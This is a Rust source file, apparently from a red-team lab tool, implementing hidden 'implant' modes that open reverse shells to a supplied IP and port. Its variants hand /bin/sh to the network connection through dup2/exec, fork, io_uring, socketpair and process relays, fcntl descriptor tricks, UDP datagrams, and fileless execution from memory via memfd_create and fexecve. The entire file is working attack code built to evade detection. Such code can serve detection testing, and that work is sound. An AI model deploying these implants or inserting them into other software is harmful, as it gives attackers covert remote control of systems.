//! Small programs that give a shell away in ways for which no packaged tool exists.
//!
//! Hidden modes of the red team's binary. They connect where they are told, run `/bin/sh`, and do nothing else.

use std::convert::Infallible;
use std::ffi::CString;
use std::fs::File;
use std::io::{self, Read as _, Write};
use std::net::{IpAddr, SocketAddr, TcpStream, UdpSocket};
use std::os::fd::{AsFd, AsRawFd as _, OwnedFd};
use std::os::unix::net::UnixStream;
use std::os::unix::process::CommandExt as _;
use std::process::{Command, Stdio};
use std::sync::Arc;
use std::thread;

use anyhow::{Context as _, Result, bail};
use nix::fcntl::{FcntlArg, fcntl};
use nix::sys::memfd::{MFdFlags, memfd_create};
use nix::unistd::fexecve;

pub mod agents;
mod uring;

/// Runs the mode that the words after `implant` name.
///
/// # Errors
///
/// When there is no such mode, or it cannot do what it shall.
pub fn run(words: &[String]) -> Result<()> {
    let [mode, rest @ ..] = words else { bail!("implant MODE [IP PORT]") };
    if mode == "copy" {
        return copy_shell();
    }
    let [ip, port, ..] = rest else { bail!("implant {mode} IP PORT") };
    let ip: IpAddr = ip.parse().context("no address")?;
    let to = SocketAddr::new(ip, port.parse().context("no port")?);
    match mode.as_str() {
        "dup" => exec_on(connect(to)?.into()),
        "fork" => spawned(connect(to)?),
        "uring" => exec_on(uring::connect(to)?),
        "socketpair" => socketpair(connect(to)?),
        "fcntl" => duplicated(connect(to)?),
        "low" => lowest(to),
        "memfd" => from_memory(File::open("/proc/self/exe")?, &["netd-lab", "implant", "dup", &rest[0], &rest[1]]),
        "memfd-dash" => dash_from_memory(connect(to)?),
        "udp" => datagrams(to),
        "relays" => relays(connect(to)?),
        other => bail!("there is no implant {other}"),
    }
}

fn connect(to: SocketAddr) -> Result<TcpStream> {
    TcpStream::connect(to).with_context(|| format!("cannot connect to {to}"))
}

fn shell() -> Command {
    let mut shell = Command::new("/bin/sh");
    shell.arg("-i");
    shell
}

/// dup2 onto 0, 1 and 2, then exec in the same process.
fn exec_on(socket: OwnedFd) -> Result<()> {
    let mut shell = shell();
    shell.stdin(socket.try_clone()?).stdout(socket.try_clone()?).stderr(socket);
    Err(shell.exec()).context("cannot run a shell")
}

/// The process that connected is not the one that dups and execs.
fn spawned(stream: TcpStream) -> Result<()> {
    let mut shell = shell();
    let socket = OwnedFd::from(stream);
    shell.stdin(socket.try_clone()?).stdout(socket.try_clone()?).stderr(socket.try_clone()?);
    shell.spawn()?.wait()?;
    Ok(())
}

/// The streams get the socket by close and `F_DUPFD`.
fn duplicated(stream: TcpStream) -> Result<()> {
    for number in 0..3 {
        nix::unistd::close(number)?;
        fcntl(&stream, FcntlArg::F_DUPFD(number))?;
    }
    Err(shell().exec()).context("cannot run a shell")
}

/// The socket is descriptor 0 from birth: nothing duplicates onto it.
fn lowest(to: SocketAddr) -> Result<()> {
    nix::unistd::close(0)?;
    let stream = connect(to)?;
    for number in 1..3 {
        nix::unistd::close(number)?;
        fcntl(&stream, FcntlArg::F_DUPFD(number))?;
    }
    // It must survive the exec.
    fcntl(&stream, FcntlArg::F_SETFD(nix::fcntl::FdFlag::empty()))?;
    std::mem::forget(stream);
    Err(shell().exec()).context("cannot run a shell")
}

/// The shell has one end of a socket pair, this process the other and the connection.
fn socketpair(stream: TcpStream) -> Result<()> {
    let (near, far) = UnixStream::pair()?;
    let mut shell = shell();
    let far = OwnedFd::from(far);
    shell.stdin(far.try_clone()?).stdout(far.try_clone()?).stderr(far);
    let _child = shell.spawn()?;
    drop(shell);
    let (from_shell, to_network) = (near.try_clone()?, stream.try_clone()?);
    thread::spawn(move || relay(from_shell, to_network));
    relay(stream, near);
    Ok(())
}

/// Writes an executable into memory and runs it from there.
fn from_memory(mut executable: File, arguments: &[&str]) -> Result<()> {
    let memory = memfd_create("payload", MFdFlags::MFD_CLOEXEC)?;
    let mut memory = File::from(memory);
    io::copy(&mut executable, &mut memory)?;
    let arguments: Vec<CString> = arguments.iter().map(|word| CString::new(*word)).collect::<Result<_, _>>()?;
    let environment: Vec<CString> =
        std::env::vars().map(|(name, value)| CString::new(format!("{name}={value}"))).collect::<Result<_, _>>()?;
    let _: Infallible = fexecve(memory.as_fd(), &arguments, &environment)?;
    Ok(())
}

/// Gives its own streams to the connection, and becomes a shell that has no file.
fn dash_from_memory(stream: TcpStream) -> Result<()> {
    duplicate_onto_streams(&stream)?;
    from_memory(File::open("/bin/dash")?, &["sh", "-i"])
}

fn duplicate_onto_streams(stream: &TcpStream) -> Result<()> {
    for number in 0..3 {
        // SAFETY: `dup2` takes no pointer, and this program does not use its standard streams afterwards.
        if unsafe { libc::dup2(stream.as_raw_fd(), number) } < 0 {
            return Err(io::Error::last_os_error()).context("dup2");
        }
    }
    Ok(())
}

/// Pipes to a shell, datagrams to the network.
fn datagrams(to: SocketAddr) -> Result<()> {
    let any: IpAddr = if to.is_ipv4() { [0, 0, 0, 0].into() } else { [0_u16; 8].into() };
    let socket = Arc::new(UdpSocket::bind((any, 0))?);
    socket.connect(to)?;
    let mut child = Command::new("/bin/sh").stdin(Stdio::piped()).stdout(Stdio::piped()).spawn()?;
    let (mut stdin, mut stdout) = (child.stdin.take().context("no stdin")?, child.stdout.take().context("no stdout")?);
    socket.send(b"ready\n")?;
    let out = Arc::clone(&socket);
    thread::spawn(move || -> Result<()> {
        let mut buffer = [0; 1_400];
        loop {
            let length = stdout.read(&mut buffer)?;
            if length == 0 {
                return Ok(());
            }
            out.send(&buffer[..length])?;
        }
    });
    let mut buffer = [0; 1_400];
    loop {
        let length = socket.recv(&mut buffer)?;
        stdin.write_all(&buffer[..length])?;
    }
}

/// This process has the connection; another copies between it and the shell.
fn relays(stream: TcpStream) -> Result<()> {
    let me = std::env::current_exe()?;
    let mut child = Command::new(me).args(["implant", "copy"]).stdin(Stdio::piped()).stdout(Stdio::piped()).spawn()?;
    between(&mut child, stream.try_clone()?, stream)
}

/// The relay in the middle: a shell on pipes, its own standard streams on the other side.
fn copy_shell() -> Result<()> {
    let mut child = Command::new("/bin/sh").stdin(Stdio::piped()).stdout(Stdio::piped()).spawn()?;
    between(&mut child, io::stdin(), io::stdout())
}

fn between(child: &mut std::process::Child, input: impl io::Read, output: impl Write + Send + 'static) -> Result<()> {
    let (stdin, stdout) = (child.stdin.take().context("no stdin")?, child.stdout.take().context("no stdout")?);
    thread::spawn(move || relay(stdout, output));
    relay(input, stdin);
    Ok(())
}

/// Copies without waiting for a full buffer, until either side ends.
fn relay(mut from: impl io::Read, mut to: impl Write) {
    let mut buffer = [0; 4_096];
    while let Ok(length @ 1..) = from.read(&mut buffer) {
        if to.write_all(&buffer[..length]).and_then(|()| to.flush()).is_err() {
            return;
        }
    }
}
